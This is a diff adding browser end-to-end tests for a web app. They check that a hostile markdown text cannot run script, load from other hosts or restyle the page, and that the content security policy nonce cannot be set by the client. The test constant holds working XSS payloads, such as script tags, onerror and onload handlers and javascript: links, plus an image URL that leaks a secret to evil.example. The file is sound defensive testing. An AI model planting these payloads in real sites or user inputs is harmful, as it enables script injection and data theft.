@@ -1,0 +1,71 @@
+import { createSession, expect, test } from "./people.ts";
+
+/** What a document, a question or an imported chat may try: to run script, to load from elsewhere, to style the page. */
+const HOSTILE = `# <script>window.pwned = 1</script> A hostile text
+
+The treasure is buried under the oak. <img src="https://evil.example/leak.png" onerror="window.pwned = 1">
+
+![a picture](https://evil.example/pixel.png?leak=secret) [a link](javascript:window.pwned=1) [data](data:text/html,<script>window.pwned=1</script>)
+
+<iframe src="https://evil.example"></iframe> <svg onload="window.pwned=1"></svg> <style>body { display: none }</style>
+
+<a href="https://evil.example" onmouseover="window.pwned=1">hover</a> <form action="https://evil.example"><input name="q"></form>
+
+<link rel="stylesheet" href="https://evil.example/x.css"> <base href="https://evil.example/"> <meta http-equiv="refresh" content="0;url=https://evil.example">
+
+[ref]: https://evil.example/ref.png
+![ref] [ref]
+
+<details open ontoggle="window.pwned=1"><summary>x</summary></details> <math><mtext><script>window.pwned=1</script></mtext></math>
+
+\`\`\`html
+<script>window.pwned = 1</script>
+\`\`\`
+`;
+
+test("a hostile text runs nothing, loads nothing from elsewhere and styles nothing", async ({ newPerson, baseURL }) => {
+  const author = await newPerson("<img src=x onerror=window.pwned=1>");
+  const { path, documentPath } = await createSession(author, `Where is the treasure? ${HOSTILE}`, HOSTILE);
+  const page = await author.context.newPage();
+  const elsewhere: string[] = [];
+  const violations: string[] = [];
+  page.on("request", (request) => {
+    if (!request.url().startsWith(String(baseURL)) && !/^(data|blob):/.test(request.url()))
+      elsewhere.push(request.url());
+  });
+  page.on("console", (message) => {
+    if (/Content Security Policy/i.test(message.text())) violations.push(message.text());
+  });
+  page.on("dialog", (dialog) => void dialog.dismiss().then(() => violations.push("dialog")));
+  for (const at of [documentPath, path, "/"]) {
+    await page.goto(at, { waitUntil: "networkidle" });
+    expect(await page.evaluate(() => "pwned" in window)).toBe(false);
+    await expect(page.locator("body")).toBeVisible();
+    await expect(
+      page.locator(
+        'main iframe, main form[action], main style, main svg[onload], main [onerror], main a[href^="javascript:"], main a[href^="data:"]',
+      ),
+    ).toHaveCount(0);
+  }
+  await expect(page.locator("head base")).toHaveCount(0);
+  expect(elsewhere).toEqual([]);
+  expect(violations).toEqual([]);
+});
+
+test("a page's policy has a nonce of its own, whatever the client sends", async ({ request }) => {
+  const policies: string[] = [];
+  for (const nonce of ["", "chosen-by-the-client"]) {
+    const headers = { "x-nonce": nonce, "content-security-policy": `script-src 'nonce-${nonce}'` };
+    const answer = await request.get("/sign-in", { headers });
+    const policy = answer.headers()["content-security-policy"] ?? "";
+    const [, given] = /script-src 'nonce-([^']+)' 'strict-dynamic'/.exec(policy) ?? [];
+    expect(given).toBeTruthy();
+    const html = await answer.text();
+    const scripts = [...html.matchAll(/<script([^>]*)>/g)].map((match) => match[1] ?? "");
+    expect(scripts.length).toBeGreaterThan(0);
+    for (const attributes of scripts) expect(attributes).toContain(`nonce="${given}"`);
+    expect(html).not.toContain("chosen-by-the-client");
+    policies.push(policy);
+  }
+  expect(policies[0]).not.toBe(policies[1]);
+});
